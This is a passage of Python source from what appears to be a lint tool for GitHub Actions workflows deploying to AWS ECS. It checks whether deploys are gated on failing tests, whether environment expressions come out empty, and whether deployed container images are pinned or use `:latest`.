        last.argv[:1] == ["exit"] and len(last.argv) == 2 and last.argv[1] != "0"))


# only `success` (`!= 'failure'` lets a cancelled or timed-out run's commit through)
_UPSTREAM_SUCCEEDED = lazy_re(
    r"github\.event\.workflow_run\.conclusion\s*==\s*['\"]success['\"]|"
    r"['\"]success['\"]\s*==\s*github\.event\.workflow_run\.conclusion", re.I)


def _test_steps(job, deploys) -> list:
    """The job's own steps before its first deploy that run tests and fail the job."""
    first = min(d.step.index for d in deploys) if deploys else -1
    return [st for st in job.steps[:first + 1] if _gating_test(job, st)]


def _events_without_tests(wf, job, deploys) -> list:
    """The events a deploy step of the job runs on where none of its test steps
    runs (their `if:`s keep them off: tests on `push` only, a deploy also on a
    dispatch)."""
    merge = wm.pull_request_ref_is_merge(wf.triggers)
    on = wm.job_events(wf, job)

    def events(step):
        return set(wm.if_events(step.if_, merge).admit(wf.triggers)) & on
    deployed = set().union(*(events(d.step) for d in deploys)) if deploys else set(on)
    tested = set().union(*(events(st) for st in _test_steps(job, deploys)))
    return sorted(deployed - tested)


_RESULT_TESTS = lazy_re(r"needs\.([A-Za-z0-9_-]+)\.result\s*(==|!=)\s*'(\w+)'")
_RESULT_TESTS_REVERSED = lazy_re(r"'(\w+)'\s*(==|!=)\s*needs\.([A-Za-z0-9_-]+)\.result")


def _runs_whatever_needs_give(job, wf=None, inputs=None) -> bool:
    """Does the job's `if:` let it run when a job it needs failed (`always()`,
    `failure()`, `!cancelled()`) without requiring success of the needs that
    run tests (`needs.*.result`, or `needs.X.result == 'success'` of a job
    that runs tests or needs one that does, `== 'failure'` of a job that
    needs one; `!= 'failure'` lets a cancelled run through), or `!failure()
    && !cancelled()` with a test job that may be skipped (`_no_failure_gates`)?"""
    cond = job.if_
    if not isinstance(cond, str) or _RUNS_ANYWAY.search(cond) is None:
        return False
    if wf is not None and _no_failure_gates(wf, job, inputs):
        return False
    if "result" not in cond:
        return True
    if wf is None:
        return False
    # `contains(needs.*.result, 'success')`: one job that succeeded is enough,
    # a failed test job beside a passing lint job lets the deploy through
    cond = _ANY_SUCCESS.sub("true", cond)
    if re.search(r"needs\.\*\.result", cond):
        return False
    return not _results_gate(wf, cond)


def _no_failure_gates(wf, job, inputs=None) -> bool:
    """Does a job whose `if:` requires `!failure() && !cancelled()` need
    (directly or not) a job that runs tests and cannot be skipped? failure()
    is true when any job up the `needs` chain failed, so that job's failing
    tests stop it; a test job that may be skipped (its `if:` or that of a job
    it needs not known true, with the call's `inputs`: `if: inputs.run-tests`
    and `run-tests: false`) lets it run untested. `!failure()` alone runs in
    a cancelled run."""
    required = wm.fold_condition(
        wm.if_expression(job.if_), lambda e: {re.sub(r"\s+", "", e)},
        lambda got: set.intersection(*got), lambda got: set().union(*got),
        limit=40, too_deep=set())
    if not {"!failure()", "!cancelled()"} <= required:
        return False
    for jid in wm.needs_closure(wf, job.id):
        chain = [jid] + sorted(wm.needs_closure(wf, jid))
        if _job_gates(wf.jobs[jid]) and all(
                n in wf.jobs and wm.call_if(wf.jobs[n].if_, inputs) is True for n in chain):
            return True
    return False


_ANY_SUCCESS = lazy_re(r"(?<![!\w])(?<!!\s)contains\(\s*needs\.\*\.result\s*,\s*'success'\s*\)",
                       re.I)


def _results_gate(wf, cond: str) -> bool:
    """Does an `if:` require a result of the jobs it needs that only passing
    tests give? Only a result that must be success gates: `!= 'failure'` lets
    a cancelled or skipped test job through (an `always()` job runs in a
    cancelled run); `== 'failure'` or `!= 'skipped'` of a job says that it
    ran, so that what it needs succeeded, unless its own `if:` runs it
    whatever they gave (`always()`, `failure()`, `cancelled()`)."""
    for name, want in _required_results(wm.if_expression(cond)):
        if name not in wf.jobs or want not in ("success", "failure", "!skipped"):
            continue
        ran = want != "success"
        if ran and isinstance(wf.jobs[name].if_, str) \
                and wm.STATUS_FUNCTION.search(wf.jobs[name].if_):
            continue
        chain = ([] if ran else [name]) + sorted(wm.needs_closure(wf, name))
        if any(n in wf.jobs and (_job_gates(wf.jobs[n]) or wf.jobs[n].uses is not None)
               for n in chain):
            return True
    return False


def _required_results(expr: str) -> set:
    """The `needs.X.result == 'R'` tests an `if:` cannot be true without:
    each of a conjunction's, those every alternative of a disjunction shares
    (`result == 'success' || (inputs.skip && result == 'skipped')` requires
    none: a skipped test job lets the job through)."""
    return wm.fold_condition(expr, _result_test, lambda got: set.intersection(*got),
                             lambda got: set().union(*got), limit=40, too_deep=set())


def _result_test(expr: str) -> set:
    """{(job, result)} of one `needs.X.result == 'R'` test (either way round);
    `!= 'R'` gives (job, '!R')."""
    m = _RESULT_TESTS.fullmatch(expr)
    if m:
        name, op, result = m.groups()
    else:
        m = _RESULT_TESTS_REVERSED.fullmatch(expr)
        if m is None:
            return set()
        result, op, name = m.groups()
    return {(name, result if op == "==" else "!" + result)}


def _reusable_runs_tests(job, ctx, events=None):
    """True/False for a local reusable workflow we can read; None when unknown.
    `events`: the caller's events the deploy runs on; a called job's `if:` on
    `github.event_name` sees the caller's event, so a job that runs on none of
    them (`if: github.event_name == 'pull_request'` on a push) runs no tests."""
    other = _local_workflow(job, ctx)
    if other is None:
        return None
    triggers = {e: None for e in events} if events else None
    return any((_job_gates(j) or j.uses is not None) and (
        triggers is None or wm.if_events(j.if_, False).admit(triggers))
        for j in other.jobs.values())


def _gating_test(job, step) -> bool:
    """A step that runs tests and fails the job when they fail: not
    `continue-on-error: true`, and a test command whose failure the script
    does not swallow (`_test_fails_step`)."""
    return wm.step_runs_tests(step) and not _continues_on_error(step) \
        and _test_fails_step(job, step)


def _test_fails_step(job, step) -> bool:
    """Can a failing test command of the step's script fail the step? Not one
    whose `||` alternative succeeds (`pytest || true`, `|| :`, `|| exit 0`,
    `|| echo ...`), nor one piped into another command without pipefail
    (`pytest | tee out.txt` in the default `bash -e {0}`), nor, with `-e` off
    (`set +e`, a shell written without it), one that is not the script's last
    command (whose status is the step's) when nothing after it reads `$?` or
    tests its `||`. A step that runs tests through an action (no test command
    in a script) can."""
    cmds = wm.commands(step)
    tests = [c for c in cmds if wm.command_runs_tests(c)]
    if not tests:
        return True
    last = next((c for c in reversed(cmds) if not c.in_substitution and not c.function), None)
    on = _shell_errexit(job, step)
    if wm.windows_shell(job, step):
        # pwsh, powershell, cmd: a program's failure does not stop the script
        # (`$ErrorActionPreference = 'stop'` is for cmdlets); the step's status
        # is the last one's, unless the script reads it
        if _READS_EXIT_CODE.search(step.run or ""):
            return True
        on = False
    piped_ok = None  # (pipefail: a pipe's status is its last command's without it)
    for c in tests:
        if shell.failure_swallowed(c, cmds):
            continue
        if c.op_after == "|":  # `pytest | tee out.txt`: the tee's status, unless pipefail
            if piped_ok is None:
                piped_ok = _pipefail(job, step)
            if not piped_ok and not shell.status_read_after(c, cmds):  # (PIPESTATUS)
                continue
        if c.in_substitution or c.function or c is last or c.in_condition \
                or shell.errexit_at(cmds, c, on) or shell.status_checked_after(c, cmds):
            return True
    return False


def _job_gates(job) -> bool:
    """Can the job fail on failing tests? A test step that does not continue on
    error nor swallow the failure (`_gating_test`), in some row of its matrix
    (`pnpm run ${{ matrix.script }}` over [lint, test]: the failing row fails
    the job), else (no test step recognised) a job whose id or name says
    test. Not a job with `continue-on-error: true`: the jobs that need it see
    `success`."""
    if _continues_on_error(job):
        return False
    tests = [st for steps in wm.row_steps(job) for st in steps if wm.step_runs_tests(st)]
    if tests:
        return any(_gating_test(job, st) for st in tests)
    return _named_test(job)


def _tests_ignored(wf, job, deploys) -> Optional[tuple]:
    """(how, fix) of the tests before the deploy kept from stopping it, asked
    once `_test_gated` said none can: "run with `continue-on-error: true`", or
    which test command swallows its failure; None when there are no tests."""
    first = min(d.step.index for d in deploys)
    steps = [(job, st) for st in job.steps[:first + 1]]
    for jid in wm.needs_closure(wf, job.id):
        steps += [(wf.jobs[jid], st) for st in wf.jobs[jid].steps]
    tests = [(j, st) for j, st in steps if wm.step_runs_tests(st)]
    for j, st in tests:
        if not _continues_on_error(st) and not _continues_on_error(j):
            c = next((c for c in wm.commands(st) if wm.command_runs_tests(c)), None)
            if c is not None:
                cmds = wm.commands(st)
                fix = ("drop the `||` alternative of the test command"
                       if shell.alternative(c, cmds) is not None else
                       "run the step with `shell: bash` (or `set -o pipefail`), so that the "
                       "test command's failure fails the pipe" if c.op_after == "|" else
                       "let the test command's failure end the step (`set -e`, or "
                       "`|| exit 1` after it)")
                return (f"cannot stop it (`{_command_text(c, wm.commands(st))}` in job "
                        f"'{j.id}' succeeds whatever the tests give)", fix)
    return ("run with `continue-on-error: true`",
            "drop `continue-on-error` from the test steps and jobs") if tests else None


def _command_text(c, cmds) -> str:
    """A command as written, with the `||` alternative that follows it."""
    alt = shell.alternative(c, cmds)
    return c.text() + (f" || {alt.text()}" if alt is not None else "")


def _named_test(job):
    return any(isinstance(n, str) and re.search(r"(?:^|[^a-z])tests?(?:[^a-z]|$)", n, re.I)
               for n in (job.id, job.name))


def _empty_environment_runs(wf, job, github) -> Optional[str]:
    """The condition (`github.ref != 'refs/heads/main'`, `github.event_name ==
    'push'`) of the runs in which a job's `environment:` expression comes out
    empty (`cond && 'production' || ''`, a dispatch input on a push), when the
    job's triggers and `if:` let such a run happen; None otherwise."""
    text = job.environment
    if not isinstance(text, str) or "${{" not in text:
        return None
    if "matrix." in text:  # a matrix row whose value is '' (or that lacks the key)
        for row in job.matrix_rows(github):
            value = "" if isinstance(row, wm.Row) and row.lacks(text) \
                else wm.expand(text, job, None, row, github)
            if row and isinstance(value, str) and "${{" not in value and not value.strip():
                return "the matrix row is " + ", ".join(f"{k}={v}" for k, v in row.items())
    for facts, condition, inputs in R.fact_splits(wf, job, ()):
        if condition is None and inputs is None:
            continue
        value = wm.expand(text, job, None, None, R.with_inputs(github, None, facts, inputs))
        if isinstance(value, str) and "${{" not in value and not value.strip() \
                and _may_run(wf, job, facts, github):
            return condition or "no input is given"
    return None


def _may_run(wf, job, facts: dict, github) -> bool:
    """Can the job run with `facts` (github.ref/ref_name ==/!= a value,
    event_name == an event) under its triggers and `if:`? Yes unless its
    triggers rule it out: a ref no trigger runs on, or `!=` the one ref they
    all run on."""
    triggers = wf.triggers if isinstance(wf.triggers, dict) else {}
    narrow = P.narrowing(job.if_, None, triggers)
    triggers = narrow.admit(triggers)
    event = facts.get("event_name")
    if event is not None and event[1] not in triggers:
        return False
    refs = P.refs_of_triggers(triggers, str((github or {}).get("default-branch") or "main"))
    if refs.unknown:
        return True
    may = refs.may if narrow.refs is None else P.intersect(refs.may, narrow.refs)
    for name in ("ref", "ref_name"):
        if name not in facts:
            continue
        op, value = facts[name]
        full = [value] if name == "ref" else [f"refs/heads/{value}", f"refs/tags/{value}"]
        if op == "==":
            if not any(P.contains(may, r) for r in full) and not (
                    refs.pull_request_may and value.startswith("refs/pull/")):
                return False
        elif not refs.pull_request_may and not P.holds_other_than(may, full):
            return False
    return True


def _called_without_environment(job, ctx):
    """A job calling a local reusable workflow whose deploying job takes its
    `environment` from an input (`${{ inputs.environment }}`) that comes out
    empty with what this job passes (its default ''): that deploy runs without
    an environment. Reported at the call, where the input is given."""
    callee = _local_workflow(job, ctx)
    if callee is None:
        return
    config = ctx.config.github or {}
    rows = job.matrix_rows(config) if "matrix." in str(job.with_) else [{}]
    for called in _live_jobs(callee):
        text = called.environment
        if not isinstance(text, str) or "${{" not in text or not called.deploys():
            continue
        for row in rows:  # (a matrix calling job: one call per row)
            github = {**config, "inputs": wm.caller_inputs(callee, wm.with_row(job.data, row))}
            value = wm.expand(text, called, None, None, github)
            if isinstance(value, str) and "${{" not in value and not value.strip():
                name = next(iter(wm.INPUT_REF.findall(text)), None)
                yield Problem(DEPLOY_NO_ENVIRONMENT.id, job.path + (
                    ("with", name) if name in job.with_ else ("uses",)),
                    f"job '{job.id}' calls {job.uses}, whose job '{called.id}' deploys "
                    f"({_deploy_words(called.deploys())}) with `environment: {text}`, empty "
                    "for this call" + (f" (matrix row {dict(row)})" if row else "")
                    + ": no environment, no reviewers",
                    help=f"pass `{name}: production` (or the environment to deploy to)"
                    if name else "give the called job an environment")
                break


def _local_workflow(job, ctx):
    """The workflow a job calls with `uses: ./.github/workflows/x.yml`, when
    readable (its local composite actions followed)."""
    return wm.called_workflow(job, ctx.repo_root or ".")


# --- images -------------------------------------------------------------------

_SHA_HINT = lazy_re(r"github\.sha|GITHUB_SHA|head\.sha|head_sha|head_commit\.id|"
                       r"rev-parse|\bsha\b|sha_|_sha|sha[0-9]*$|commit", re.I)


def _split_tag(ref: str):
    """(name, tag or None, digest or None) of an image reference with opaque ${...} parts."""
    depth, i, cut = 0, 0, []
    while i < len(ref):
        if ref.startswith("${{", i):
            j = ref.find("}}", i)
            i = len(ref) if j < 0 else j + 2
            continue
        if ref.startswith("${", i):
            j = ref.find("}", i)
            i = len(ref) if j < 0 else j + 1
            continue
        if ref.startswith("$(", i):
            depth += 1
        elif ref[i] == ")" and depth:
            depth -= 1
        cut.append((i, ref[i]) if depth == 0 else (i, ""))
        i += 1
    digest = None
    at = [p for p, ch in cut if ch == "@"]
    if at:
        digest = ref[at[-1] + 1:]
        ref = ref[:at[-1]]
        cut = [(p, ch) for p, ch in cut if p < at[-1]]
    slashes = [p for p, ch in cut if ch == "/"]
    start = slashes[-1] + 1 if slashes else 0
    colons = [p for p, ch in cut if ch == ":" and p >= start]
    if colons:
        return ref[:colons[0]], ref[colons[0] + 1:], digest
    return ref, None, digest


def _last_segment(name: str) -> str:
    """The part of an image name after its last `/` outside `$(...)`."""
    depth, start = 0, 0
    for i, ch in enumerate(name):
        if name.startswith("$(", i):
            depth += 1
        elif ch == ")" and depth:
            depth -= 1
        elif ch == "/" and depth == 0:
            start = i + 1
    return name[start:]


def image_pin(ref) -> str:
    """digest | sha | latest | untagged | other | unknown."""
    if not isinstance(ref, str) or not ref.strip():
        return "unknown"
    ref = ref.strip().strip('"').strip("'")
    name, tag, digest = _split_tag(ref)
    if digest:
        return "digest" if digest.startswith("sha256:") or "${{" in digest or "$" in digest \
            else "other"
    if tag is None:
        if _last_segment(name).startswith(("$(", "`")):
            return "unknown"  # what a command prints: maybe the whole reference
        if name.startswith("${{") and name.endswith("}}") and name.count("${{") == 1 \
                and "(" in name:
            return "unknown"  # a function not evaluated (`format(...)`): maybe the whole reference
        last = name.rsplit("/", 1)[-1]
        if last.startswith("$") and not re.search(r"repo|name", last, re.I):
            return "unknown"  # a variable that may hold the whole reference
        if "${{" in last and not re.search(r"repo|name", last, re.I):
            return "unknown"
        return "untagged"
    if tag == "latest":
        return "latest"
    if _SHA_HINT.search(tag):
        return "sha"
    return "other" if "$" not in tag else "unknown"


def _pushes(job, github, root=None):
    """[(resolved ref, step, path, line)] of the images a job pushes (with the
    repository at `root`, also the targets `docker buildx bake` and
    docker/bake-action push, read from its bake files)."""
    out = []
    for st in job.steps:
        if root is not None and (st.uses or "").startswith("docker/bake-action"):
            inputs = {k: wm.resolve(v, job, st, github=github) if isinstance(v, str) else v
                      for k, v in st.with_.items()}
            command = bake.action_command(inputs)
            for ref in (_baked(command[0], command[1], job, st, github, None, root)
                        if command else None) or []:
                out.append((ref, st, wm.input_path(st, "push"), None))
        if st.uses and st.uses.startswith("docker/build-push-action"):
            if wm._truthy(st.with_.get("push")) is True:
                tags = st.with_.get("tags")
                if isinstance(tags, str):
                    for t in re.split(r"[\n,]", tags):
                        if t.strip():
                            out.append((wm.resolve(t.strip(), job, st, github=github), st,
                                        wm.input_path(st, "tags"), None))
        built = {}
        for c in wm.commands(st):
            argv = c.argv
            retagged = _retagged(c)
            if retagged is not None:  # an image's manifest put back under another tag
                out.append((wm.resolve(retagged, job, st, github=github, line=c.line), st,
                            st.run_path, c.line))
                continue
            if argv[:1] != ["docker"]:
                continue
            if root is not None and "bake" in argv[1:3]:
                wd = wm.working_directory(st.data, job.data,
                                          job.workflow.data if job.workflow else {}) or "."
                argv = [wm.resolve(w, job, st, github=github, line=c.line) for w in argv]
                for ref in _baked(argv, wd, job, st, github, c.line, root) or []:
                    out.append((ref, st, st.run_path, c.line))
                continue
            words = argv[1:]
            if words[:1] == ["image"]:
                words = words[1:]
            if words[:1] == ["push"]:
                refs = [w for w in words[1:] if not w.startswith("-")]
                for r in refs[:1]:
                    ref = wm.resolve(r, job, st, github=github, line=c.line)
                    if "--all-tags" in words or "-a" in words:  # each tag the job gave it
                        for t in _tags_of(job, github, ref) or [f"{ref}:$ALL_TAGS"]:
                            out.append((t, st, st.run_path, c.line))
                    else:
                        out.append((ref, st, st.run_path, c.line))
            elif words[:2] == ["manifest", "push"]:  # a manifest list made for a tag
                refs = [w for w in words[2:] if not w.startswith("-")]
                for r in refs[:1]:
                    out.append((wm.resolve(r, job, st, github=github, line=c.line), st,
                                st.run_path, c.line))
            elif words[:3] == ["buildx", "imagetools", "create"]:
                for t in shell.option_values(words, ("-t", "--tag")):
                    out.append((wm.resolve(t, job, st, github=github, line=c.line), st,
                                st.run_path, c.line))
            elif words[:2] == ["buildx", "build"] or words[:1] == ["build"]:
                tags = shell.option_values(words, ("-t", "--tag"))
                if "--push" in words:
                    for t in tags:
                        out.append((wm.resolve(t, job, st, github=github, line=c.line), st,
                                    st.run_path, c.line))
                for t in tags:
                    built[t] = c
    return out


def _baked(argv, folder: str, job, st, github, line, root) -> Optional[list]:
    """The images a bake command (`bake.pushed_images`) run in the workspace
    `folder` pushes, with the step's environment."""
    if "$" in folder:
        return None

    def env(name):
        v = wm.script_vars(st, line).get(name) if line is not None else None
        v = v if v is not None else wm._env_value(name, job, st)
        if v is None:
            return None
        if isinstance(v, wm.Printed) or not isinstance(v, (str, int, float)):
            return bake.Unknown(name)
        got = wm.resolve(str(v), job, st, github=github, line=line)
        return bake.Unknown(name) if "${{" in got else got
    return bake.pushed_images(argv, os.path.join(root, folder), env, root)


def _retagged(c) -> Optional[str]:
    """The reference a retagging command pushes: `aws ecr put-image
    --repository-name R --image-tag T` (the manifest of another tag put back
    under T: ECR's PutImage, the last call of every push) as `R:T`, and
    `crane tag IMAGE T` as IMAGE's repository with T; None for another command."""
    if shell.is_aws(c, "ecr", "put-image"):
        repo, tag = shell.option(c, "--repository-name"), shell.option(c, "--image-tag")
        return f"{repo}:{tag}" if repo and tag else None
    words = [w for w in c.argv[1:] if not w.startswith("-")]
    if c.argv[:1] == ["crane"] and len(words) == 3 and words[0] == "tag":
        return f"{_repository(words[1].split('@')[0])}:{words[2]}"
    return None


def _repository(ref: str) -> str:
    """`registry/name:tag` -> `registry/name` (a port's colon is not a tag's)."""
    head, _, tail = ref.rpartition(":")
    return head if head and "/" not in tail else ref


def _tags_of(job, github, repository) -> List[str]:
    """The references of `repository` the job's `docker build -t` and `docker
    tag` commands make (what `docker push --all-tags` pushes)."""
    out = []
    for st in job.steps:
        for c in wm.commands(st):
            words = c.argv[1:] if c.argv[:1] == ["docker"] else []
            if words[:1] == ["image"]:
                words = words[1:]
            made = []
            if words[:1] == ["build"] or words[:2] == ["buildx", "build"]:
                made = shell.option_values(words, ("-t", "--tag"))
            elif words[:1] == ["tag"]:
                made = [w for w in words[1:] if not w.startswith("-")][1:2]
            for t in made:
                ref = wm.resolve(t, job, st, github=github, line=c.line)
                if isinstance(ref, str) and isinstance(repository, str) \
                        and _repository(ref) == _repository(repository):
                    out.append(ref)
    return list(dict.fromkeys(out))


def _deployed_images(job, github):
    """[(resolved ref, step, path, line)] of the images a deploying job deploys."""
    out = []
    renders = [st for st in job.steps if st.uses == wm.ECS_RENDER]
    rows = job.matrix_rows() if "matrix." in str([st.with_.get("image") for st in renders]) \
        else [None]
    for st in renders:
        img = st.with_.get("image")
        if isinstance(img, str):  # each matrix row's image (`${{ matrix.image }}`)
            for ref in dict.fromkeys(wm.resolve(img, job, st, row, github) for row in rows):
                out.append((ref, st, wm.input_path(st, "image"), None))
    for d in job.deploys():  # a deploy tool given the image
        if d.image is not None and d.command is None:  # an action's input
            out.append((wm.resolve(d.image, job, d.step, github=github), d.step,
                        wm.input_path(d.step, "args" if "image" not in d.step.with_
                                      else "image"), None))
        elif d.image is not None:
            out.append((wm.resolve(d.image, job, d.step, github=github, line=d.command.line),
                        d.step, d.step.run_path, d.command.line))
    if out:
        return out, False
    cli = [d for d in job.deploys() if d.command is not None]
    if not cli:
        return [], False
    for st in job.steps:
        for c in wm.commands(st):
            if c.name != "jq":
                continue
            filt = " ".join(a for a in c.argv[1:] if not a.startswith("-"))
            if "image" not in filt:
                continue
            argv = c.argv
            for i, a in enumerate(argv[:-2]):
                if a in ("--arg", "--argjson") and re.search(
                        r"image\"?\s*(?:\|?=|:)\s*\$" + re.escape(argv[i + 1]) + r"\b", filt):
                    out.append((wm.resolve(argv[i + 2], job, st, github=github, line=c.line),
                                st, st.run_path, c.line))
    return out, True


@check(kinds=("workflow",), rules=(IMAGE_LATEST.id,))
def image_latest(doc, ctx):
    wf = _workflow(doc)
    github = ctx.config.github
    callers = wm.local_callers(doc.file, wf, ctx.repo_root) or []
    for job in _live_jobs(wf):
        if not job.deploys():
            continue
        # the runs to tell apart: a reusable workflow's calling jobs, each with
        # the inputs it passes (an image tag input whose default is `latest`);
        # else the events the job runs on, when a tag is picked by the event
        # (`github.event_name == 'release' && ... || 'latest'`)
        runs = [(f"{f} job '{j}'", {**github, "inputs": inputs}) for f, j, inputs in callers]
        text = doc.text or ""
        dispatched = "workflow_dispatch" in wf.triggers and "inputs." in text
        by_ref = _BY_REF_ENTRY.search(text) is not None
        if not runs and ("event_name" in text or "github.event." in text or dispatched
                         or by_ref):
            # (a dispatch's inputs are given or their defaults; any other event's empty;
            # a metadata-action entry's tag depends on the ref: one run per ref type)
            runs = [(e + label, {**github, wm.FACTS: {"event_name": ("==", e), **facts},
                                 **({"inputs": _dispatch_inputs(wf, e)} if dispatched else {})})
                    for e in sorted(wm.job_events(wf, job))
                    for label, facts in (_ref_runs(wf, e) if by_ref else [("", {})])]
        found = {}  # ref -> (arguments of _latest_problem, the runs that deploy it)
        for name, g in runs or [(None, github)]:
            for ref, args in _latest_images(wf, job, g, ctx.repo_root or "."):
                found.setdefault(ref, (args, []))[1].append(name)
        for ref, (args, on) in found.items():
            when = ""
            if len(on) < len(runs):
                when = f" when called by {', '.join(on)}" if callers else f" on {', '.join(on)}"
            yield _latest_problem(doc, job, ref, *args, when=when)
    yield from _latest_outputs(doc, wf, ctx)


# a docker/metadata-action entry whose tag depends on the run's ref or event
_BY_REF_ENTRY = lazy_re(r"type\s*=\s*(?:semver|pep440|match|ref|edge|schedule)\b", re.I)


def _ref_runs(wf, event: str) -> list:
    """[(label, facts)] of the kinds of ref a run on `event` has: a push to a
    branch or of a tag (as its filters allow), a pull request's merge ref, a
    release's tag; else the branch it runs on."""
    if event == "push":
        spec = wf.triggers.get("push") if isinstance(wf.triggers.get("push"), dict) else {}
        branches = any(k in spec for k in ("branches", "branches-ignore"))
        tags = any(k in spec for k in ("tags", "tags-ignore"))
        kinds = ["branch"] * (branches or not tags) + ["tag"] * (tags or not branches)
    elif event in ("create", "delete"):
        kinds = ["branch", "tag"]
    elif event == "release":
        kinds = ["tag"]
    elif event.startswith("pull_request"):
        kinds = ["pr"]
    else:
        kinds = ["branch"]
    return [((f" to a branch" if k == "branch" else f" of a tag" if k == "tag" else "")
             if len(kinds) > 1 else "", {"ref_type": ("==", k)}) for k in kinds]


def _dispatch_inputs(wf, event: str) -> dict:
    """The `inputs` of a run on `event`: on a dispatch, each input's default
    (what a run that leaves it gets), else ''; on any other event, every
    input ''."""
    spec = wf.triggers.get("workflow_dispatch")
    declared = spec.get("inputs") if isinstance(spec, dict) else None
    names = [k for k in declared if isinstance(k, str)] if isinstance(declared, dict) else []
    defaults = wm.input_defaults(declared) if event == "workflow_dispatch" else {}
    return {n: wm._str_or_none(defaults.get(n)) or "" for n in names}


_NEEDS_OUTPUT = lazy_re(r"\$\{\{\s*needs\.([A-Za-z0-9_-]+)\.outputs\.([A-Za-z0-9_-]+)\s*\}\}")


def _latest_outputs(doc, wf, ctx):
    """A reusable workflow that hands its callers (`on.workflow_call.outputs`)
    an image its job pushes as `:latest` (or untagged), which a job of a
    calling workflow in the repository deploys (`needs.CALL.outputs.NAME`):
    reported here, where the tag is written, once per output."""
    if "workflow_call" not in wf.triggers or not doc.file:
        return
    seen = set()
    for file, data, call_id, call in wm.calling_jobs(doc.file, ctx.repo_root):
        github = {**ctx.config.github, "inputs": wm.caller_inputs(wf, call)}  # the call's
        caller = wm.read_workflow(data)
        for deployer in _live_jobs(caller):
            if call_id not in deployer.needs or not deployer.deploys():
                continue
            for ref, *_ in _deployed_images(deployer, ctx.config.github)[0]:
                for m in _NEEDS_OUTPUT.finditer(ref):
                    handed = wm.workflow_call_output(wf, m.group(2)) \
                        if m.group(1) == call_id else None
                    if handed is None or m.group(2) in seen:
                        continue
                    job, value = handed
                    got = ref.replace(m.group(0), wm.resolve(value, job, github=github))
                    kind = image_pin(got)
                    if kind not in ("latest", "untagged"):
                        continue
                    seen.add(m.group(2))
                    where = next(((p_st, p_path, p_line) for p_ref, p_st, p_path, p_line
                                  in _pushes(job, github) if p_ref == got),
                                 (None, wf.path_of["on"] + ("workflow_call", "outputs",
                                                            m.group(2)), None))
                    default = _input_default_place(wf, job, where[0], where[2]) \
                        if where[0] is not None else None
                    given = call.get("with") if isinstance(call.get("with"), dict) else {}
                    if default is not None and default[1][3] not in given:
                        where = default  # the caller leaves out an input whose default is latest
                    yield _latest_problem(doc, job, got, kind, *where, "pushes",
                                          when=f" (whose output `{m.group(2)}` {file} job "
                                               f"'{deployer.id}' deploys)")


def _latest_images(wf, job, github, root=None):
    """[(ref, (kind, step, path, line, verb))] of the `:latest` or untagged
    images a deploying job deploys, with where their tag is written."""
    deployed, via_cli = _deployed_images(job, github)
    if root is not None:  # (a file of the repository registered as it is, render or not)
        deployed = deployed + _file_images(job, github, root)
    own = pushes = _pushes(job, github, root)
    for jid in wm.needs_closure(wf, job.id):
        pushes = pushes + _pushes(wf.jobs[jid], github, root)
    if not deployed and via_cli:
        # the CLI deploys what the task definition names: the pushed image (the
        # deploying job's own pushes when it has some: the tag it moves last)
        kinds = [image_pin(p[0]) for p in own or pushes]
        if kinds and all(k in ("latest", "untagged") for k in kinds):
            ref, st, path, line = (own or pushes)[0]
            return [(ref, (image_pin(ref), st, path, line,
                           "deploys through the AWS CLI and pushes only"))]
        moved = next((p for p in own or pushes if image_pin(p[0]) == "latest"), None)
        restart = _forced_restart(job) if moved is not None else None
        if restart is None:
            return []
        # the service runs its revision again: of what the job pushes, only a
        # moving tag reaches it (the commit's tag is in no revision). Reported
        # at the push when that is all the job pushes of the repository, else
        # at the restart, where the fix goes (register a revision of the tag)
        ref, st, path, line = moved
        if any(_repository_of(p[0]) == _repository_of(ref)
               and image_pin(p[0]) not in ("latest", "untagged") for p in own or pushes):
            st, c = restart
            path, line = st.run_path, c.line if any(c is x for x in wm.commands(st)) else None
        return [(ref, ("latest", st, path, line,
                       "restarts the service (`update-service --force-new-deployment`, "
                       "no new task definition), so deploys"))]
    out = []
    for ref, st, path, line, *file in deployed:
        kind = image_pin(ref)
        if kind not in ("latest", "untagged") or ref in (r for r, _ in out):
            continue
        # where the tag is written: an input's default (not for a file's
        # image), else the push when the job pushes the repository with no
        # other tag, else the deploy itself
        where = None if file else _input_default_place(wf, job, st, line)
        pinned = any(_repository_of(p_ref) == _repository_of(ref)
                     and image_pin(p_ref) not in ("latest", "untagged")
                     for p_ref, *_ in pushes)
        if where is None and not pinned:
            where = next(((p_st, p_path, p_line) for p_ref, p_st, p_path, p_line in pushes
                          if p_ref == ref), None)
        verb = f"registers {file[0]} as it is, so deploys" if file else "deploys"
        out.append((ref, (kind, *(where or (st, path, line)), verb)))
    return out


def _forced_restart(job):
    """(step, command) of the first `aws ecs update-service
    --force-new-deployment` of a job that deploys only that way: no
    `--task-definition`, no task definition registered (in its scripts, or
    through the deploy actions). The service then starts its current revision
    again. None otherwise."""
    forced = None
    for st in job.steps:
        if st.uses in (wm.ECS_DEPLOY, wm.ECS_RENDER):
            return None
        for c in itertools.chain(wm.commands(st), *st.scripts.values()):
            if shell.is_aws(c, "ecs", "register-task-definition") \
                    or shell.is_aws(c, "ecs", "update-service") \
                    and shell.option(c, "--task-definition") is not None:
                return None
            if forced is None and shell.is_aws(c, "ecs", "update-service") \
                    and "--force-new-deployment" in c.argv:
                forced = (st, c)
    return forced


def _file_images(job, github, root: str):
    """[(ref, step, path, line, file)] of the images in the task definition
    files of the repository that the job registers as they are: the deploy
    action's `task-definition` (a path, not a render step's output) and the
    `file://FILE` of `aws ecs register-task-definition` (`_registered_files`),
    when nothing before it may change the file (`_rewritten`); read through
    `probes`."""
    out = []
    for st in job.steps:
        if st.uses == wm.ECS_DEPLOY:
            raw = wm.resolve(st.with_.get("task-definition"), job, st, github=github)
            file = os.path.normpath(raw.strip().removeprefix("./")) \
                if isinstance(raw, str) and raw.strip() and "$" not in raw else None
            found = [(file, "--cli-input-json", None)] if file else []
            at, line = wm.input_path(st, "task-definition"), None
        else:
            found, at = _registered_files(job, st, github), st.run_path
        for file, option, c in found:
            if _rewritten(job, st, c, file, github):
                continue
            line = c.line if c is not None else None
            for image in _file_container_images(job, st, file, option, github, root):
                out.append((image, st, at, line, file))
    return out


# the options of `aws ecs register-task-definition` that may name a file of
# the container definitions, the first given wins (the flag over the input file)
_REGISTER_FILE_OPTIONS = ("--container-definitions", "--cli-input-json", "--cli-input-yaml")


def _registered_files(job, st, github) -> list:
    """[(workspace path, option, command)] of the files a run step's `aws ecs
    register-task-definition` commands take the containers from
    (`--container-definitions file://FILE`, else `--cli-input-json` or
    `--cli-input-yaml` `file://FILE`), FILE relative to the step's
    `working-directory` and the script's `cd`; a path not known or outside
    the workspace is left out."""
    from ecs_lint.xref import linking as L

